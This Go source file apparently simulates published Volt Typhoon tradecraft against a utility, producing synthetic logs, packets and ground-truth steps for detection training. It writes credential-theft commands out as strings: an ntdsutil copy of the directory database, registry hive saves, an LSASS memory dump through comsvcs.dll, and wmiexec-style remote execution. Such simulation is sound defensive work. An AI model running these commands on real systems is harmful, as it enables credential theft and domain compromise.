// Package volttyphoon plays the published tradecraft of Volt Typhoon at a
// utility: a valid account through the edge, hands on a keyboard, tools that
// were already there, the directory database, port proxies and cleared logs.
// Commands are text in logs; nothing runs.
package volttyphoon

import (
	"fmt"
	"net/netip"
	"time"

	"longwatch/internal/simulate/chance"
	"longwatch/internal/simulate/estate"
	"longwatch/internal/simulate/packet"
	"longwatch/internal/simulate/scenario/ordinary"
	"longwatch/internal/simulate/talk"
	"longwatch/internal/simulate/truth"
)

const profile = "volt-typhoon"

type play struct {
	*estate.Site
	r      *chance.Rand
	p      *truth.Plot
	user   *estate.User
	jump   *estate.Host
	app    *estate.Host
	inner  netip.Addr // address inside the VPN
	shell  *estate.Process
	logon  *estate.Logon
	folder string // staging directory
	now    time.Time
}

// Play writes the intrusion into the last day of the site.
func Play(s *estate.Site) truth.Campaign {
	r := s.R.Sub(profile)
	x := &play{Site: s, r: r, jump: s.One(estate.Jump), app: s.One(estate.AppServer), user: chance.Pick(r, s.Admins()),
		p:      truth.NewPlot(profile, s.Key, "VPN session with a valid administrator account from a home router near the victim"),
		folder: chance.Pick(r, []string{`C:\Windows\Temp\pro`, `C:\Windows\Temp\tmp`, `C:\Users\Public\Appfile`, `C:\Windows\Temp\McAfee_Logs`, `C:\Windows\Temp\Pro`})}
	x.p.Account(x.user.Name)
	x.now = s.At(s.Act, 10, 5).Add(r.Duration(0, 90*time.Minute))
	x.probes()
	x.entry()
	x.survey()
	x.directory()
	x.hives()
	x.collect()
	x.relay()
	x.plant()
	x.cover()
	for i, at := range s.Returns {
		x.back(at, 81+i)
	}
	return x.p.Campaign()
}

// pause lets a person think.
func (x *play) pause() { x.now = x.now.Add(8*time.Second + x.r.Wait(35*time.Second)) }

// run is one command typed at the jump host.
func (x *play) run(image, command string) *estate.Process {
	x.pause()
	c := x.jump.Spawn(x.now, x.logon, x.shell, `C:\Windows\System32\`+image, command)
	c.End(x.now.Add(x.r.Duration(80*time.Millisecond, 3*time.Second)))
	return c
}

// soho draws the address of a small router in the victim's own region.
func (x *play) soho() netip.Addr {
	return netip.AddrFrom4([4]byte{chance.Pick(x.r, []byte{114, 121, 168, 202}), byte(x.r.Between(20, 120)), byte(x.r.IntN(256)), byte(x.r.Between(2, 254))})
}

// probes are many routers that each touch the edge a little, the day before.
func (x *play) probes() {
	at := x.At(max(x.Act-1, 0), 1, 0)
	edge := x.One(estate.Edge)
	for range x.r.Between(55, 75) {
		at = at.Add(x.r.Wait(12 * time.Minute))
		if at.After(x.now) {
			break
		}
		x.Capture.Unanswered(at, x.Internet(x.soho()), edge.Station, uint16(x.r.Between(32768, 60000)), chance.Pick(x.r, []uint16{22, 80, 443, 8080, 8443}))
	}
	x.p.Step(x.At(max(x.Act-1, 0), 1, 0), edge.Name, "VT-01", "low-rate probing of the edge from many home routers", truth.Pcap)
}

func (x *play) entry() {
	edge := x.One(estate.Edge)
	crash := x.now.Add(-x.r.Duration(14*time.Hour, 20*time.Hour))
	edge.Appliance(crash, 187, `logid="0100032546" type="event" subtype="system" level="critical" vd="root" logdesc="Application crashed" action="crash" msg="Pid: %d, application: sslvpnd, Firmware: FortiOS v7.0.5, Signal 11 received, Backtrace: [0x7f%08x]"`, x.r.Between(150, 900), x.r.Uint32())
	x.p.Way(crash, edge.Name, "VT-04", "the VPN daemon of the appliance crashed", "logs/edge/"+edge.Name+".log")
	home := x.soho()
	x.p.Remote(home.String())
	x.inner = ordinary.VPN(x.Site, x.now, x.user, home, 5*time.Hour, 80)
	x.p.Began(x.user.Name, x.inner.String())
	x.p.Way(x.now, edge.Name, "VT-04 VT-27", fmt.Sprintf("VPN log-on of %s from %s", x.user.Name, home), "logs/edge/"+edge.Name+".log", truth.Pcap)

	x.now = x.now.Add(x.r.Duration(3*time.Minute, 12*time.Minute))
	client := &packet.Station{IP: x.inner, Stack: packet.Windows, Hops: 1}
	k := x.Dial(x.now, client, x.jump.Station, 3389)
	talk.StartRDP(k, x.user.Name)
	t := talk.StartTLS(k, x.r, talk.Schannel, x.jump.FQDN(), x.jump.Desktop())
	x.logon = x.jump.LogOn(k.Now(), x.user, estate.LogonOptions{Type: 10, From: x.inner, Port: k.ClientPort()})
	for range 40 {
		t.Exchange(x.r.Size(250, 3000), x.r.Size(2500, 30000), x.r.Duration(10*time.Millisecond, 60*time.Millisecond))
		k.Wait(x.r.Wait(4 * time.Minute))
	}
	t.Close(packet.Client)
	x.p.Step(x.now, x.jump.Name, "VT-20", "remote desktop from the VPN to the jump host", truth.Pcap, truth.EVTX(x.jump.Name, estate.Security))
	explorer := x.jump.Spawn(x.now.Add(3*time.Second), x.logon, x.jump.Base(`C:\Windows\System32\userinit.exe`), `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`)
	x.now = x.now.Add(40 * time.Second)
	x.shell = x.jump.Spawn(x.now, x.logon, explorer, `C:\Windows\System32\cmd.exe`, `"C:\Windows\system32\cmd.exe"`)
}

// back is a return through another home router: a short session, a few looks,
// the directory database again every third time.
func (x *play) back(at time.Time, slot int) {
	x.now = at
	edge, home := x.One(estate.Edge), x.soho()
	x.p.Remote(home.String())
	x.inner = ordinary.VPN(x.Site, x.now, x.user, home, 40*time.Minute, slot)
	x.p.Step(x.now, edge.Name, "VT-04 VT-27", fmt.Sprintf("VPN log-on of %s from %s again", x.user.Name, home), "logs/edge/"+edge.Name+".log", truth.Pcap)
	x.now = x.now.Add(x.r.Duration(time.Minute, 4*time.Minute))
	client := &packet.Station{IP: x.inner, Stack: packet.Windows, Hops: 1}
	k := x.Dial(x.now, client, x.jump.Station, 3389)
	talk.StartRDP(k, x.user.Name)
	t := talk.StartTLS(k, x.r, talk.Schannel, x.jump.FQDN(), x.jump.Desktop())
	x.logon = x.jump.LogOn(k.Now(), x.user, estate.LogonOptions{Type: 10, From: x.inner, Port: k.ClientPort()})
	for range 6 {
		t.Exchange(x.r.Size(250, 3000), x.r.Size(2500, 30000), x.r.Duration(10*time.Millisecond, 60*time.Millisecond))
		k.Wait(x.r.Wait(4 * time.Minute))
	}
	t.Close(packet.Client)
	x.now = x.now.Add(30 * time.Second)
	explorer := x.jump.Spawn(x.now, x.logon, x.jump.Base(`C:\Windows\System32\userinit.exe`), `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`)
	x.shell = x.jump.Spawn(x.now.Add(20*time.Second), x.logon, explorer, `C:\Windows\System32\cmd.exe`, `"C:\Windows\system32\cmd.exe"`)
	begin := x.now
	for _, c := range chance.Some(x.r, [][2]string{{"NETSTAT.EXE", "netstat -ano"}, {"quser.exe", "quser"}, {"net.exe", `net group "Domain Admins" /domain`}, {"tasklist.exe", "tasklist /v"}}, 2) {
		x.run(c[0], c[1])
	}
	x.p.Step(begin, x.jump.Name, "VT-19", "a look around on the jump host", truth.EVTX(x.jump.Name, estate.Sysmon), truth.EVTX(x.jump.Name, estate.Security))
	if slot%3 == 0 {
		x.directory()
	}
	x.logon.LogOff(x.now.Add(time.Minute))
}

// survey is discovery with what Windows brings along.
func (x *play) survey() {
	begin := x.now
	list := [][2]string{
		{"systeminfo.exe", "systeminfo"}, {"ipconfig.exe", "ipconfig /all"}, {"NETSTAT.EXE", "netstat -ano"}, {"whoami.exe", "whoami"}, {"tasklist.exe", "tasklist /v"},
		{"net.exe", `net group "Domain Admins" /domain`}, {"net.exe", `net localgroup administrators`}, {"nltest.exe", "nltest /dclist:" + x.Zone}, {"quser.exe", "quser"},
		{`wbem\WMIC.exe`, "wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename"}, {"netsh.exe", "netsh interface firewall show all"}, {"netsh.exe", "netsh interface portproxy show v4tov4"},
		{"curl.exe", "curl www.ip-api.com"}, {"reg.exe", `reg query hkcu\software\putty\session`}, {"reg.exe", `reg query hklm\software\OpenSSH`}, {"ARP.EXE", "arp -a"}, {"ROUTE.EXE", "route print"},
	}
	for _, c := range chance.Some(x.r, list[:9], x.r.Between(6, 9)) {
		x.run(c[0], c[1])
	}
	for _, c := range list[9:14] {
		p := x.run(c[0], c[1])
		if c[0] == "curl.exe" {
			ip := x.Address("www.ip-api.com")
			x.jump.Resolve(x.now, "www.ip-api.com")
			k := x.Dial(x.now.Add(80*time.Millisecond), x.jump.Station, x.Internet(ip), 80)
			k.Send(packet.Client, talk.Request("GET", "/", "www.ip-api.com", talk.Header{"User-Agent: curl/7.83.1", "Accept: */*"}, nil))
			k.Send(packet.Server, talk.Response(k.Now(), 200, talk.Header{"Content-Type: text/plain; charset=utf-8"}, []byte("{\n  \"status\" : \"success\",\n  \"query\" : \""+x.Resolver[0].String()+"\"\n}")))
			k.Close(packet.Client)
			p.Connected(k.Now(), ip.String(), k.ClientPort(), 80)
		}
	}
	x.p.Step(begin, x.jump.Name, "VT-15 VT-19", "host and network survey with built-in tools", truth.EVTX(x.jump.Name, estate.Sysmon))
	x.run("wevtutil.exe", `wevtutil qe security /rd:true /f:text /q:*[System[(EventID=4624)]] /c:`+fmt.Sprint(x.r.Between(50, 500)))
	ps := x.run(`WindowsPowerShell\v1.0\powershell.exe`, `powershell Get-EventLog security -instanceid 4624 -after `+x.now.AddDate(0, 0, -7).Format("01/02/2006")+` ^| fl * ^> `+x.folder+`\user.dat`)
	ps.Script(x.now.Add(600*time.Millisecond), `Get-EventLog security -instanceid 4624 -after `+x.now.AddDate(0, 0, -7).Format("01/02/2006")+` | fl * > `+x.folder+`\user.dat`, "")
	x.p.Step(x.now, x.jump.Name, "VT-18", "log-on events read to learn who works where", truth.EVTX(x.jump.Name, estate.Sysmon), truth.EVTX(x.jump.Name, estate.PowerShell))
	x.run("ldifde.exe", `ldifde.exe -f c:\windows\temp\cisco_up.txt -p subtree`)
	x.run("dnscmd.exe", `dnscmd `+x.DC.Name+` /enumrecords `+x.Zone+` @`)
	x.p.Step(x.now, x.jump.Name, "VT-16", "directory and DNS exported", truth.EVTX(x.jump.Name, estate.Sysmon))
}

// wmi runs a command on the controller the way wmiexec does.
func (x *play) wmi(command string) *estate.Process {
	x.pause()
	out := fmt.Sprintf(`__%d.%d`, x.now.Unix(), x.r.Between(1000000, 9999999))
	line := fmt.Sprintf(`cmd.exe /Q /c %s 1> \\127.0.0.1\ADMIN$\%s 2>&1`, command, out)
	l, p := x.RemoteWMI(x.now, x.jump.Station, x.DC, x.user, x.jump.Name, `C:\Windows\System32\cmd.exe`, line)
	s := x.SMB(x.now.Add(900*time.Millisecond), x.jump.Station, x.DC, x.user, x.jump.Name)
	t := s.Open("ADMIN$")
	t.Read(out, []byte("The command completed successfully.\r\n"))
	t.Delete(out)
	t.Disconnect()
	s.End()
	p.End(x.now.Add(1200 * time.Millisecond))
	l.LogOff(x.now.Add(20 * time.Second))
	return p
}

// directory copies the directory database with install-from-media.
func (x *play) directory() {
	x.wmi(chance.Pick(x.r, []string{"whoami", "hostname", "ver"}))
	x.p.Step(x.now, x.DC.Name, "VT-06 VT-07", "remote command over WMI with output in ADMIN$", truth.Pcap, truth.EVTX(x.DC.Name, estate.Security), truth.EVTX(x.DC.Name, estate.Sysmon))
	x.pause()
	command := fmt.Sprintf(`cmd.exe /c mkdir %s & ntdsutil "ac i ntds" ifm "create full %s" q q`, x.folder, x.folder)
	x.jump.Spawn(x.now, x.logon, x.shell, `C:\Windows\System32\wbem\WMIC.exe`, fmt.Sprintf(`wmic /node:%s process call create "%s"`, x.DC.Name, command))
	_, cmd := x.RemoteWMI(x.now.Add(300*time.Millisecond), x.jump.Station, x.DC, x.user, x.jump.Name, `C:\Windows\System32\cmd.exe`, command)
	at := x.now.Add(time.Second)
	nt := x.DC.Spawn(at, cmd.Logon, cmd, `C:\Windows\System32\ntdsutil.exe`, fmt.Sprintf(`ntdsutil  "ac i ntds" ifm "create full %s" q q`, x.folder))
	snap := fmt.Sprintf(`\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%d`, x.r.Between(1, 30))
	x.DC.VolumeMounted(at.Add(4*time.Second), "", snap)
	mount := fmt.Sprintf(`C:\$SNAP_%s_VOLUMEC$\Windows\NTDS\ntds.dit`, at.Format("200601021504"))
	target := x.folder + `\Active Directory\ntds.dit`
	pid := fmt.Sprintf("%d,D,0", nt.PID)
	x.DC.Database(at.Add(5*time.Second), 326, "ntdsutil", fmt.Sprintf("%d,D,50", nt.PID), "", "1", mount, "0", "[1] 0.000, [2] 0.015, [3] 0.016", "", "")
	x.DC.Database(at.Add(5*time.Second+200*time.Millisecond), 325, "ntdsutil", pid, "", "2", target, "0", "[1] 0.000, [2] 0.000, [3] 0.016", "")
	x.DC.Database(at.Add(11*time.Second), 327, "ntdsutil", pid, "", "1", mount, "0", "[1] 0.000, [2] 0.000", "0")
	x.DC.Database(at.Add(12*time.Second), 327, "ntdsutil", pid, "", "2", target, "0", "[1] 0.000, [2] 0.000", "0")
	for i, f := range []string{`\Active Directory\ntds.dit`, `\registry\SYSTEM`, `\registry\SECURITY`} {
		nt.CreateFile(at.Add(time.Duration(6+i)*time.Second), x.folder+f)
	}
	nt.End(at.Add(14 * time.Second))
	x.now = at.Add(20 * time.Second)
	x.p.Step(at, x.DC.Name, "VT-09 VT-10 VT-11 VT-12", "directory database copied with ntdsutil to "+x.folder, truth.EVTX(x.DC.Name, estate.Security), truth.EVTX(x.DC.Name, estate.Sysmon), truth.EVTX(x.DC.Name, estate.Application), truth.EVTX(x.DC.Name, estate.System))
}

func (x *play) hives() {
	x.run("reg.exe", `reg save hklm\system ss.dat`)
	x.run("reg.exe", `reg save hklm\sam sy.dat`)
	x.p.Step(x.now, x.jump.Name, "VT-13", "registry hives saved", truth.EVTX(x.jump.Name, estate.Sysmon))
	if x.r.Chance(0.5) {
		x.remoteHive()
	}
	lsass := x.app.Base(estate.Lsass)
	x.pause()
	l, cmd := x.RemoteWMI(x.now, x.jump.Station, x.app, x.user, x.jump.Name, `C:\Windows\System32\cmd.exe`, fmt.Sprintf(`cmd.exe /c rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump %d %s\vm3d.dmp full`, lsass.PID, x.folder))
	d := x.app.Spawn(x.now.Add(400*time.Millisecond), l, cmd, `C:\Windows\System32\rundll32.exe`, fmt.Sprintf(`rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump %d %s\vm3d.dmp full`, lsass.PID, x.folder))
	d.Loaded(x.now.Add(450*time.Millisecond), `C:\Windows\System32\comsvcs.dll`, true)
	d.Opened(x.now.Add(500*time.Millisecond), lsass, 0x1fffff, `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+286d9`)
	d.CreateFile(x.now.Add(900*time.Millisecond), x.folder+`\vm3d.dmp`)
	d.End(x.now.Add(3 * time.Second))
	x.p.Step(x.now, x.app.Name, "VT-14", "memory of LSASS written to a file with comsvcs.dll", truth.EVTX(x.app.Name, estate.Security), truth.EVTX(x.app.Name, estate.Sysmon), truth.Pcap)
}
